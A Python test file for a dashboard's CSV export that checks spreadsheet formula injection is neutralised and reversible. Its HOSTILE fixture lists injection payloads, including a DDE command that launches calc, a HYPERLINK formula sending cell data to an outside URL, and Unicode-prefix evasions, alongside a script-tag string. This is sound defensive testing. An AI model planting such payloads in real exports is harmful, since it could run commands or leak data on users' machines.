from __future__ import annotations

import csv
import io

import duckdb
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.paper.spreadsheet import as_it_came, csv_bytes, neutralised
from pipelines.contracts import Column

NAME = Column("name", "text", "A name", is_nullable=True)
SHARE = Column("share", "number", "A share", is_nullable=True)
COUNT = Column("n_things", "integer", "A count", is_nullable=True)
HOSTILE = {
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "space": "  =1+1",
    "no-break-space": "\u00a0=1+1",
    "right-to-left-mark": "\u200f=1+1",
    "right-to-left-override": "\u202e=1+1",
    "byte-order-mark": "\ufeff=1+1",
    "full-width": "\uff1d1+1",
    "true-minus": "\u22121",
    "marked-already": "'=1+1",
    "link": '=HYPERLINK("http://example.org?x="&A1,"Press")',
}
HARMLESS = {
    "word": "Mill Square",
    "quotes": 'He said "here", twice',
    "separators": "a;=1+1,\tb|c",
    "lines": "first\r\nsecond\n=third",
    "accents": "Đường Sỏi – café",
    "right-to-left": "شارع الطاحونة",
    "markup": "<script>alert(1)</script>",
    "apostrophe": "'tis here",
    "empty": "",
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _written(texts: list[str]) -> bytes:
    return csv_bytes((NAME,), pd.DataFrame({"name": texts}))


def _read_back(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [row[0] for row in rows[1:]]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_text_that_a_spreadsheet_could_run_is_marked_and_comes_back_whole(text: str) -> None:
    (cell,) = _read_back(_written([text]))

    assert cell == f"'{text}"
    assert as_it_came(cell) == text


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_any_other_text_is_written_as_it_is(text: str) -> None:
    (cell,) = _read_back(_written([text]))

    assert cell == text
    assert as_it_came(cell) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_no_cell_of_any_text_starts_a_formula_and_every_text_comes_back(texts: list[str]) -> None:
    cells = _read_back(_written(texts))

    assert [as_it_came(cell) for cell in cells] == texts
    assert not [cell for cell in cells if cell.lstrip(" \u00a0\u200f\u202e\ufeff").startswith(DANGEROUS_STARTS)]


@given(st.sampled_from("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"), st.text())
def test_marking_can_be_undone_however_often_it_was_done(start: str, rest: str) -> None:
    once = neutralised(start + rest)
    twice = neutralised(once)

    assert once != twice
    assert as_it_came(as_it_came(twice)) == start + rest


def test_figures_stay_figures_and_a_null_is_nothing() -> None:
    rows = pd.DataFrame(
        {"name": ["a", None], "share": [-71.0612345678, None], "n_things": pd.array([-3, None], dtype="Int64")}
    )
    text = csv_bytes((NAME, SHARE, COUNT), rows).decode("utf-8-sig")

    assert text == '"name","share","n_things"\r\n"a",-71.0612345678,-3\r\n,,\r\n'


def test_a_quotation_mark_and_a_separator_do_not_open_a_new_cell() -> None:
    content = _written(['";=1+1,"', "x"])

    assert b'"";=1+1,""' in content
    assert _read_back(content) == ['";=1+1,"', "x"]


def test_duckdb_and_pandas_read_the_types_and_the_accents(tmp_path) -> None:
    file = tmp_path / "places.csv"
    rows = pd.DataFrame({"name": ["Đường Sỏi", "=1+1"], "share": [0.25, 1.5], "n_things": [1, 20_000]})
    file.write_bytes(csv_bytes((NAME, SHARE, COUNT), rows))

    by_duckdb = duckdb.connect().read_csv(str(file)).fetchall()
    by_pandas = pd.read_csv(file)

    assert by_duckdb == [("Đường Sỏi", 0.25, 1), ("'=1+1", 1.5, 20_000)]
    assert list(by_pandas.columns) == ["name", "share", "n_things"]
    assert by_pandas["n_things"].tolist() == [1, 20_000]
